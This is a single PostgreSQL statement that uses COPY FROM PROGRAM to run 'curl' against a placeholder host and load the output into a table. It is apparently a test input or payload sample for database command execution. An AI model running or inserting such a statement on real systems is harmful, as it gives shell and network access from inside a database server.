COPY sink FROM PROGRAM 'curl -s http://x'
